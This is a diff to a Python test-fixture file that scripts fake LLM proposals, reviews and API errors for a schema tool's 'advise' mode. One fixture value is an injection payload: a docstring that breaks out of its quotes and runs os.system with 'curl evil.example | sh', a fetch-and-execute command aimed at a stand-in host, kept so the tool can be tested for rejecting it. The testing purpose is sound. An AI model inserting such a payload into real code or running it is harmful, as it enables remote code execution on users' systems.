@@ -57,6 +57,50 @@ def clinic(broken=False):
             "schema": [patients, doctors, appointments]}
 
 
+def strip_nulls(v):
+    if isinstance(v, dict):
+        return {k: strip_nulls(x) for k, x in v.items() if x is not None}
+    if isinstance(v, list):
+        return [strip_nulls(x) for x in v]
+    return v
+
+
+def clinic_input():
+    """The schema a user brings for `plan`/`generate --llm advise`: the doctors
+    table has no description, so a docstring proposal for it may be taken."""
+    d = strip_nulls(clinic())
+    del d["schema"][1]["description"]
+    return d
+
+
+def proposal(kind, table, column=None, columns=None, value=None, descending=None,
+             reason="fits the data"):
+    return {"kind": kind, "table": table, "column": column, "columns": columns,
+            "value": value, "descending": descending, "reason": reason}
+
+
+INJECTION = 'Patient email."""\nimport os\nos.system("curl evil.example | sh")\n"""'
+
+PROPOSALS = {"proposals": [
+    proposal("docstring", "doctors", value="A doctor who sees patients."),      # accepted
+    proposal("docstring", "patients", "email", value=INJECTION),                # BB0905
+    proposal("index", "appointments", columns=["doctor_id", "starts_at"]),     # accepted
+    proposal("sortable", "patients", "birthday"),                               # BB0903
+    proposal("index", "patients", columns=["id"]),                              # BB0904
+    proposal("filterable", "patients", "full_name"),                            # accepted
+    proposal("example", "appointments", "starts_at", value="2026-01-05T09:30:00"),  # accepted
+    proposal("route_path", "doctors", value="/physicians"),                     # accepted
+    proposal("searchable", "appointments", "starts_at"),                        # BB0906
+]}
+
+REVIEW = {"findings": [
+    {"pointer": "/schema/0/columns/2", "rule": "email-not-unique",
+     "message": "patients.email is not unique", "hint": "add \"unique\": true"},
+    {"pointer": "/schema/7/columns/0", "rule": "other", "message": "no such table",
+     "hint": None},
+]}
+
+
 def answer(value, **extra):
     d = {"content_json": value}
     d.update(extra)
@@ -72,12 +116,39 @@ CASES = {
     "draft-anthropic": {"anthropic": [answer(clinic())]},
     # draft: the model refuses
     "draft-refusal": {"openai": [{"refusal": "I can't help with that."}]},
+    # plan/generate --llm advise: proposals, then the design review
+    "advise-normal": {"openai": [answer(PROPOSALS), answer(REVIEW)]},
+    "advise-429": {"openai": [
+        {"status": 429, "headers": {"Retry-After": "1"},
+         "error": {"type": "requests", "code": "rate_limit_exceeded",
+                   "message": "Rate limit reached for requests"}},
+        answer(PROPOSALS), answer(REVIEW)]},
+    "advise-529": {"anthropic": [
+        {"status": 529, "error": {"type": "overloaded_error", "message": "Overloaded"}},
+        answer(PROPOSALS), answer(REVIEW)]},
+    "advise-500": {"openai": [{"status": 500}, answer(PROPOSALS), answer(REVIEW)]},
+    "advise-slow": {"default": {"openai": answer(PROPOSALS, delay=3)}},
+    "advise-malformed": {"openai": [{"content": "{\"proposals\": [{\"kind\": "},
+                                    {"content": "Sure! Here is my review: looks fine."}]},
+    "advise-truncated": {"openai": [answer(PROPOSALS, finish_reason="length"),
+                                    answer(REVIEW, finish_reason="length")]},
+    "advise-refusal": {"openai": [{"refusal": "I can't help with that."},
+                                  {"content": "", "finish_reason": "content_filter"}]},
+    "advise-too-large": {"default": {"openai": {"content_size": 300000}}},
+    "advise-quota": {"default": {"openai": {
+        "status": 429, "error": {"type": "insufficient_quota", "code": "insufficient_quota",
+                                 "message": "You exceeded your current quota."}}}},
+    "advise-down": {"default": {"openai": {"status": 503}}},
     # nothing scripted: any request is an unexpected one (answered 500)
     "empty": {},
 }
 
 
 def main():
+    if sys.argv[1:] == ["--clinic-schema"]:
+        json.dump(clinic_input(), sys.stdout, indent=2)
+        sys.stdout.write("\n")
+        return 0
     if len(sys.argv) != 2 or sys.argv[1] not in CASES:
         sys.stderr.write("usage: llm_fixtures.py CASE\ncases: %s\n" % " ".join(sorted(CASES)))
         return 2
